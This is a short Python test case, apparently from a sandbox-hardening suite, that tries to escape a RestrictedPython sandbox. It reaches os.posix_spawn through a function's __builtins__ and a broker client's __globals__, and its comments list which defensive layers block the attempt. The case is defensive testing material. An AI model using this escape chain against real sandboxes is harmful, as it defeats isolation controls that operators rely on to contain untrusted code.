# attack: function globals
# stops: restrictedpython: "__builtins__" is an invalid attribute name
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython => escaped
# a function's __builtins__ (Python 3.10+), then the bound Directory's broker client
def f():
    pass
client = f.__builtins__["Directory"].__self__.client
os = client.call.__globals__["frames"].os
print("ESCAPED", os.posix_spawn("/bin/true", ["true"], {}))
